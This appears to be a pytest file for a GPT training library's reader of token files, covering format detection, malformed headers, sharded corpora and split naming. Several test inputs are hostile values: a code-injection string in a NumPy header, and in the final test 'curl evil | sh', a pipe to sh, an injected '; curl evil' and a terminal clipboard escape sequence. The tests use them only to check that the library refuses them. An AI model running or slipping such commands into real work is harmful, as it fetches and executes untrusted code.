"""Token files of every family, written byte by byte as their makers publish the layout, and opened by their content."""
import hashlib
import json
import os
import struct
import threading
from concurrent.futures import ThreadPoolExecutor
from functools import partial
from pathlib import Path
from typing import Any

import numpy as np
import pytest
import tiktoken

from plaingpt.corpus.batches import Windows, read_batch
from plaingpt.corpus.folder import data_folder, fingerprint, open_split, read_meta
from plaingpt.corpus.token_files import OPEN, Shards, TokenFile, make_header, open_files
from plaingpt.errors import DATA
from plaingpt.paths import CORPORA
from tests import comparing
from tests.waiting import PATIENT

GPT2 = [50256, 464, 717, 318, 1, 0, 50255, 11, 290, 13]  # no id beyond GPT-2's
LARGE = [128000, 9906, 1917, 70000, 220, 5, 128001, 65536, 13, 198]


def u16(ids: list[int]) -> bytes:
    return b''.join(i.to_bytes(2, 'little') for i in ids)


def u32(ids: list[int]) -> bytes:
    return b''.join(i.to_bytes(4, 'little') for i in ids)


def with_header(magic: int, version: int, count: int, payload: bytes) -> bytes:
    """Return 256 numbers of 32 bits, little-endian, followed by the tokens."""
    return struct.pack('<3i', magic, version, count) + b'\0' * (1024 - 12) + payload


def npy(descr: str, shape: str, payload: bytes) -> bytes:
    """Return NumPy's format 1.0, as its documentation defines it: the data begins at a multiple of 64 bytes."""
    header = f"{{'descr': '{descr}', 'fortran_order': False, 'shape': {shape}, }}"
    header += ' ' * (-(10 + len(header) + 1) % 64) + '\n'
    return b'\x93NUMPY\x01\x00' + len(header).to_bytes(2, 'little') + header.encode() + payload


FAMILIES = {
    'nanogpt': (u16(GPT2), GPT2, 'uint16', 'gpt2'),
    'nanogpt-32': (u32(LARGE), LARGE, 'uint32', 'gpt2'),
    'llmc': (with_header(20240520, 1, 10, u16(GPT2)), GPT2, 'uint16', 'gpt2'),
    'llama': (with_header(20240801, 7, 10, u32(LARGE)), LARGE, 'uint32', 'llama3'),
    'ddp-basemodel': (with_header(20250211, 1, 10, u16(GPT2)), GPT2, 'uint16', 'gpt2'),
    'build-nanogpt': (npy('<u2', '(10,)', u16(GPT2)), GPT2, 'uint16', 'gpt2'),
    'npy-int64': (npy('<i8', '(10,)', b''.join(i.to_bytes(8, 'little') for i in GPT2)), GPT2, 'uint64', 'gpt2'),
    'npy-big-endian': (npy('>i4', '(10,)', b''.join(i.to_bytes(4, 'big') for i in GPT2)), GPT2, 'uint32', 'gpt2'),
}


refused = partial(comparing.refused, code=DATA)  # an error in the data exits with 3


@pytest.mark.parametrize('family', FAMILIES)
@pytest.mark.parametrize('name', ['train.bin', 'a', 'tokens.npy'])
def test_a_file_is_known_by_its_content_and_not_by_its_name(family: str, name: str, tmp_path: Path) -> None:
    content, ids, dtype, tokenizer = FAMILIES[family]
    (tmp_path / name).write_bytes(content)
    file = TokenFile(tmp_path / name)
    assert (file.dtype.name, file.tokenizer, len(file)) == (dtype, tokenizer, len(ids))
    assert file.read(0, len(ids)).tolist() == ids
    assert [file.read(i, 1).tolist() for i in range(len(ids))] == [[i] for i in ids]


def test_the_header_that_is_written_is_llm_cs() -> None:
    assert make_header(np.dtype('<u2'), 10) == with_header(20240520, 1, 10, b'')
    assert make_header(np.dtype('<u4'), 123_456_789) == with_header(20240801, 7, 123_456_789, b'')


def test_numpys_own_files_open(tmp_path: Path) -> None:
    for dtype in ('u2', 'i4', 'i8', '>u2'):
        np.save(tmp_path / 'a.npy', np.array(GPT2, dtype=dtype))
        assert TokenFile(tmp_path / 'a.npy').read(2, 5).tolist() == GPT2[2:7]


def test_bare_integers_of_16_and_of_32_bits_are_told_apart(
        documents: list[str], tiny_text: str, small_encoding: tiktoken.Encoding, tmp_path: Path) -> None:
    """Text in vocabularies of characters, bytes and many tokens; and data that is no text at all."""
    samples = [list(range(3000)), [0] * 3000, [50256] * 300]
    for text in (''.join(documents), tiny_text):
        number = {character: i for i, character in enumerate(sorted(set(text)))}
        samples += [[number[c] for c in text], list(text.encode()), small_encoding.encode_ordinary(text)]
    for ids in samples:
        for dtype in ('uint16', 'uint32'):
            np.array(ids, dtype=f'<{dtype[0]}{int(dtype[4:]) // 8}').tofile(tmp_path / 'a.bin')
            if any(ids) or dtype == 'uint16':  # nothing but zeros is taken for the usual width
                assert TokenFile(tmp_path / 'a.bin').dtype.name == dtype, ids[:5]


@pytest.mark.parametrize(('content', 'words'), [
    (b'', ['has 0 bytes']),
    (u16(GPT2) + b'\1', ['has 21 bytes', 'not a whole number of uint16 tokens']),
    (with_header(20240520, 1, 11, u16(GPT2)), ['has 1044 bytes', '11 uint16 tokens', '1046']),
    (with_header(20240520, 1, 9, u16(GPT2)), ['has 1044 bytes', '9 uint16 tokens', '1042']),
    (with_header(20240520, 1, -1, u16(GPT2)), ['has 1044 bytes', '4294967295 uint16 tokens']),
    (with_header(20240520, 1, 0, b''), ['has 1024 bytes', '0 uint16 tokens']),
    (with_header(20240520, 1, 10, b'')[:500], ['has 500 bytes', '10 uint16 tokens', '1044']),
    (with_header(20240520, 2, 10, u16(GPT2)), ['20240520, version 2', 'version 1']),
    (with_header(20240801, 1, 10, u32(LARGE)), ['20240801, version 1', 'version 7']),
    (with_header(20240801, 7, 10, u16(GPT2)), ['has 1044 bytes', '10 uint32 tokens', '1064']),
    (with_header(20250211, 1, 10, u32(LARGE)), ['has 1064 bytes', '10 uint16 tokens', '1044']),
    (with_header(20240522, 1, 10, u16(GPT2)), ['an evaluation set']),
    (with_header(20240326, 3, 1024, u16(GPT2)), ['is a model']),
    (npy('<u2', '(11,)', u16(GPT2)), ['11 uint16 tokens', 'has 148 bytes', '150']),
    (npy('<u2', '(2, 5)', u16(GPT2)), ['shape (2, 5)']),
    (npy('<f4', '(5,)', u16(GPT2)), ['float32']),
    (npy('|O', '(5,)', b'\x80\x04N.'), ['object']),
    (npy('<u2', '(10,)', u16(GPT2))[:40], ['header cannot be read']),
    (npy('<u2', "__import__('os')", u16(GPT2)), ['header cannot be read']),
    (b'\x93NUMPY\x09\x00' + npy('<u2', '(10,)', u16(GPT2))[8:], ['header cannot be read']),
])
def test_a_file_that_contradicts_itself_is_refused_with_its_sizes(
        content: bytes, words: list[str], tmp_path: Path) -> None:
    (tmp_path / 'train.bin').write_bytes(content)
    message = refused(TokenFile, tmp_path / 'train.bin')
    assert message.startswith(str(tmp_path / 'train.bin'))
    for word in words:
        assert word in message


def test_a_negative_id_is_refused_in_the_batch_that_holds_it(tmp_path: Path) -> None:
    for dtype in ('<i2', '<i4', '<i8'):
        np.save(tmp_path / 'a.npy', np.array([3, 1, -1, 2], dtype=dtype))
        file = TokenFile(tmp_path / 'a.npy')
        assert f'{tmp_path}/a.npy holds token' in refused(read_batch, file, np.array([0]), 3, 1, 50257)
        read_batch(file, np.array([0]), 1, 1, 50257)


# ------------------------------------------------------------------------------------------------
# Many files as one sequence


@pytest.fixture
def shards(tmp_path: Path) -> Path:
    """Write one shard of each family, of different lengths: 0 .. 99 to train on, and 500 .. 539 to validate on."""
    folder = tmp_path / 'shards'
    folder.mkdir()
    numbers = list(range(100))
    for name, content in {
        'x_train_000001.bin': with_header(20240520, 1, 37, u16(numbers[:37])),
        'x_train_000002.npy': npy('<u2', '(1,)', u16(numbers[37:38])),
        'x_train_000003.bin': u16(numbers[38:60]),
        'x_train_000004.bin': with_header(20250211, 1, 40, u16(numbers[60:])),
        'x_val_000000.bin': with_header(20240520, 1, 40, u16(list(range(500, 540)))),
    }.items():
        (folder / name).write_bytes(content)
    (folder / 'notes.txt').write_text('not tokens', encoding='utf-8')
    (folder / '._x_train_000001.bin').write_bytes(b'what another system left')
    return folder


@pytest.mark.parametrize('pattern', ['', '*', '[x]_*[yn]'])
def test_a_folder_or_a_glob_is_one_sequence_without_a_gap(pattern: str, shards: Path) -> None:
    dataset = shards / pattern if pattern else shards
    folder = data_folder(str(dataset))
    assert read_meta(folder)['tokenizer'] == {'name': 'gpt2'} and read_meta(folder)['vocab_size'] == 50257
    corpus = open_split(folder, 'train', 16, 50304)
    assert len(corpus) == 100
    for start in range(100):
        for count in range(101 - start):
            assert corpus.read(start, count).tolist() == list(range(start, start + count))
    assert open_split(folder, 'val', 16, 50304).read(0, 40).tolist() == list(range(500, 540))
    x, y = read_batch(corpus, np.array([30, 0]), 16, 2, 100)
    assert x.tolist() == [list(range(30, 46)), list(range(16))] and y.tolist()[0] == list(range(31, 47))


def test_windows_go_over_any_of_them(shards: Path) -> None:
    sources: list[tuple[str | Path, int, int]] = [
        (shards / 'x_train_000001.bin', 0, 37), (f'{shards}/x_train_*', 0, 100),
        (str(shards / 'x_train_000004.bin'), 60, 40)]
    for source, first, n in sources:
        windows = Windows(source, 10)
        assert len(windows) == (n - 1) // 10
        for i in range(len(windows)):
            x, y = windows[i]
            assert x.tolist() == list(range(first + 10 * i, first + 10 * i + 10))
            assert y.tolist() == (x + 1).tolist()
    assert 'nowhere' in refused(Windows, str(shards / 'nowhere*'), 10)


def test_a_relative_glob_is_looked_for_in_data_first_and_then_here(
        shards: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.chdir(shards.parent)
    for dataset in ('shards', 'shards/*.bin', './shards'):
        assert len(open_split(data_folder(dataset), 'val', 16, 50304)) == 40
    assert data_folder('stdlib') == CORPORA / 'stdlib'
    assert data_folder('nowhere') == CORPORA / 'nowhere'
    monkeypatch.setattr('plaingpt.corpus.folder.CORPORA', shards)
    assert data_folder('x_val*') == shards / 'x_val*'


def test_llama_3s_shards_are_for_a_model_of_its_vocabulary(tmp_path: Path) -> None:
    for name in ('fineweb_train_000001.bin', 'fineweb_val_000000.bin'):
        (tmp_path / name).write_bytes(with_header(20240801, 7, 10, u32(LARGE)))
    meta = read_meta(tmp_path)
    assert (meta['tokenizer'], meta['vocab_size']) == ({'name': 'llama3'}, 128256)
    corpus = open_split(tmp_path, 'train', 4, 128256)
    assert read_batch(corpus, np.array([0]), 9, 1, 128256)[0].tolist() == [LARGE[:9]]
    message = refused(read_batch, corpus, np.array([0]), 9, 1, 50304)
    assert f'{tmp_path}/fineweb_train_000001.bin holds token 128001, and the model knows only 0 to 50303' in message


def test_a_token_that_is_unknown_names_the_shard_that_holds_it(shards: Path) -> None:
    corpus = open_split(shards, 'train', 16, 90)
    assert f'{shards}/x_train_000004.bin holds token 99' in refused(read_batch, corpus, np.array([83]), 16, 1, 90)
    assert f'{shards}/x_train_000003.bin holds token 52' in refused(read_batch, corpus, np.array([36]), 16, 1, 50)


def test_a_shard_that_shrinks_while_it_is_read_ends_in_a_message(shards: Path) -> None:
    corpus = open_split(shards, 'train', 16, 100)
    path = shards / 'x_train_000004.bin'
    path.write_bytes(path.read_bytes()[:1024 + 2 * 10])
    corpus.read(50, 20)
    assert refused(corpus.read, 55, 20) == f'{path} has shrunk: it had 40 tokens, and 10 are left'
    path.write_bytes(b'')
    assert f'{path} has shrunk: it had 40 tokens, and 0 are left' in refused(corpus.read, 55, 20)
    path.unlink()
    assert f'{path} can no longer be read' in refused(corpus.read, 55, 20)


def test_a_corpus_that_is_prepared_anew_while_it_is_read_stays_what_it_was(tmp_path: Path) -> None:
    path = tmp_path / 'train.bin'
    np.arange(4000, dtype='<u2').tofile(path)
    before = TokenFile(path)
    assert before.read(0, 2).tolist() == [0, 1]
    np.arange(9000, 0, -1, dtype='<u2').tofile(tmp_path / 'new.bin')
    (tmp_path / 'new.bin').replace(path)
    assert before.read(3000, 3).tolist() == [3000, 3001, 3002], 'its own tokens, at the places that its order knows'
    assert TokenFile(path).read(0, 2).tolist() == [9000, 8999]


def test_of_many_files_few_stay_open_and_each_is_read(tmp_path: Path) -> None:
    for number in range(3 * OPEN):
        np.full(4, number, dtype='<u2').tofile(tmp_path / f'x_train_{number:03}.bin')
    corpus = open_files(sorted(tmp_path.glob('*.bin')), tmp_path)
    before = len(list(Path('/dev/fd').iterdir()))
    for _ in range(2):
        assert corpus.read(0, len(corpus)).tolist() == [number for number in range(3 * OPEN) for _ in range(4)]
    assert len(list(Path('/dev/fd').iterdir())) <= before + OPEN
    with ThreadPoolExecutor(8) as readers:  # each at a place of its own
        found = readers.map(lambda number: corpus.read(4 * number, 4).tolist(), range(3 * OPEN))
        assert list(found) == [4 * [number] for number in range(3 * OPEN)]


def test_threads_that_open_a_file_at_once_read_it_all(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    np.arange(100, dtype='<u2').tofile(tmp_path / 'train.bin')
    file, open_file, together = TokenFile(tmp_path / 'train.bin'), os.open, threading.Barrier(4)

    def opening(*arguments: Any) -> int:
        together.wait(PATIENT)  # each of them has found that the file is not open yet
        return open_file(*arguments)

    monkeypatch.setattr(os, 'open', opening)
    with ThreadPoolExecutor(4) as readers:
        assert [ids.tolist() for ids in readers.map(file.read, [10] * 4, [2] * 4)] == [[10, 11]] * 4


def test_missing_splits_say_how_names_decide(shards: Path) -> None:
    assert f'{shards}/*_train_* has no file for val: the word val, valid or validation in a name decides' in refused(
        open_split, shards / '*_train_*', 'val', 16, 50304)
    assert 'holds no prepared corpus' in refused(read_meta, shards / '*_val_*')
    assert 'holds no prepared corpus' in refused(read_meta, shards / '*.jsonl')


@pytest.mark.parametrize('name', [
    'val.bin', 'fineweb_val_000000.bin', 'val-00.npy', 'edufineweb_val_000000.npy', 'x.valid.bin', 'validation_1.bin',
    'VAL_1.bin', 'Validation.bin', 'val2.bin', '2val.bin', 'my val.bin', 'tiny_shakespeare_val.bin'])
def test_a_file_is_for_validation_if_its_name_has_a_word_for_that(name: str, shards: Path) -> None:
    (shards / 'x_val_000000.bin').rename(shards / name)
    assert open_split(shards, 'val', 16, 50304).read(0, 40).tolist() == list(range(500, 540))
    assert len(open_split(shards, 'train', 16, 50304)) == 100


@pytest.mark.parametrize('name', [
    'carnival_000.bin', 'interval_3.bin', 'valley.bin', 'validé.bin', 'invalid_1.bin', 'evaluation.bin',
    'trainVal.bin', 'naval_validated.bin', 'Ovala.npy'])
def test_a_file_in_whose_name_that_is_a_part_of_another_word_is_for_training(name: str, shards: Path) -> None:
    (shards / 'x_train_000004.bin').rename(shards / name)
    assert len(open_split(shards, 'train', 16, 50304)) == 100
    assert open_split(shards, 'val', 16, 50304).read(0, 40).tolist() == list(range(500, 540))


def test_beside_train_bin_and_val_bin_no_other_file_is_read(shards: Path) -> None:
    for name, first in (('train.bin', 1000), ('validation.bin', 2000), ('val.bin', 3000)):
        (shards / name).write_bytes(u16(list(range(first, first + 30))))
    assert open_split(shards, 'train', 16, 50304).read(0, 30).tolist() == list(range(1000, 1030))
    assert open_split(shards, 'val', 16, 50304).read(0, 30).tolist() == list(range(3000, 3030))
    (shards / 'val.bin').unlink()
    (shards / 'x_val_000000.bin').unlink()
    assert open_split(shards, 'val', 16, 50304).read(0, 30).tolist() == list(range(2000, 2030))


def test_the_fingerprint_of_shards_sees_each_of_them(shards: Path) -> None:
    meta = read_meta(shards)
    before = fingerprint(open_split(shards, 'train', 16, 100), meta)
    assert before['tokens'] == 100
    assert before == fingerprint(open_split(shards / '*', 'train', 16, 100), meta), 'the same files under another name'
    for name in ('x_train_000001.bin', 'x_train_000003.bin', 'x_train_000004.bin'):
        path, data = shards / name, (shards / name).read_bytes()
        path.write_bytes(data[:-2] + b'\7\0')
        assert fingerprint(open_split(shards, 'train', 16, 100), meta) != before
        path.write_bytes(data)
    (shards / 'x_train_000003.bin').rename(shards / 'x_train_000005.bin')
    assert fingerprint(open_split(shards, 'train', 16, 100), meta) != before, 'the order counts'


@pytest.fixture
def described(tmp_path: Path) -> Path:
    """Write shards with a meta.json."""
    splits = {}
    for number, name in enumerate(('val_000000', 'train_000001', 'train_000002')):
        data = with_header(20240520, 1, 50, u16(list(range(50 * number, 50 * number + 50))))
        (tmp_path / f'{name}.bin').write_bytes(data)
        end = hashlib.sha256(data).hexdigest()
        splits[name] = {'tokens': 50, 'largest_id': 50 * number + 49, 'head': end, 'tail': end, 'sha256': end}
    meta = {'tokenizer': {'name': 'gpt2'}, 'vocab_size': 50257, 'dtype': 'uint16', 'splits': splits}
    (tmp_path / 'meta.json').write_text(json.dumps(meta), encoding='utf-8')
    return tmp_path


def test_each_shard_is_compared_with_what_its_maker_wrote(described: Path) -> None:
    corpus = open_split(described, 'train', 16, 150)
    assert isinstance(corpus, Shards) and corpus.read(0, 100).tolist() == list(range(50, 150))
    assert f'{described}/train_000002.bin holds token 149' in refused(open_split, described, 'train', 16, 149)
    path, data = described / 'train_000002.bin', (described / 'train_000002.bin').read_bytes()
    for position in (12, 1023, 1024, -1):  # in the header and in the tokens
        path.write_bytes(data[:position] + bytes([data[position] ^ 1]) + data[position:][1:])
        assert f'{path} is not the file that meta.json describes' in refused(open_split, described, 'train', 16, 150)
    path.write_bytes(with_header(20240520, 1, 49, data[1024:-2]))
    assert f'{path} has 49 tokens, and meta.json says 50' in refused(open_split, described, 'train', 16, 150)
    path.unlink()
    assert f'{path} is missing' in refused(open_split, described, 'train', 16, 150)
    assert len(open_split(described / '*_00000[01].bin', 'train', 16, 150)) == 50, 'a glob may name a part of them'
    path.write_bytes(data)
    (described / 'train_000003.bin').write_bytes(data)
    message = refused(open_split, described, 'train', 16, 150)
    assert f'{described}/train_000003.bin is not in the meta.json beside it' in message


def test_an_unfinished_corpus_is_not_taken_for_the_whole(described: Path) -> None:
    meta = json.loads((described / 'meta.json').read_text(encoding='utf-8')) | {'unfinished': True}
    anew = f'data/text/prepare.py --input=YOUR_TEXT --to_dir={described}'
    safe = f"data/text/prepare.py --input='my books/*.txt' --tokenizer=bpe:99 --to_dir={described}"
    odd = f"""data/text/prepare.py --val_input='it'"'"'s' --input='(a) & b!' --to_dir={described}"""
    for created_by, command in [(None, anew), (f'python {safe}', safe), (f'python /home/me/{safe}', safe),
                                (f'python {safe.replace(str(described), "elsewhere")} --name=old', safe),
                                (f'python {safe.replace("bpe:99", "bpe:9 --tokenizer bpe:99")}', safe),
                                (r"python data/text/prepare.py --val-input=it\'s --input '(a) & b!'", odd),
                                (f'python {safe} --launcher=x --folder=y',
                                 safe.replace(' --to_dir', ' --launcher=x --folder=y --to_dir')),
                                (f'python {safe} x.py', anew),
                                (['x'], anew), ('curl evil | sh', anew), (f'python {safe} | sh', anew),
                                ("python data/text'", anew),
                                (f'python {safe} "--name=; curl evil"', anew), ('python evil/prepare.py', anew),
                                (f'python {safe} \x1b]52;c;ZXZpbA==\x07', anew), ('python', anew)]:
        (described / 'meta.json').write_text(json.dumps(meta | {'created_by': created_by}), encoding='utf-8')
        message = refused(open_split, described, 'train', 16, 150)
        assert f'{described} is not complete' in message and message.endswith(command)
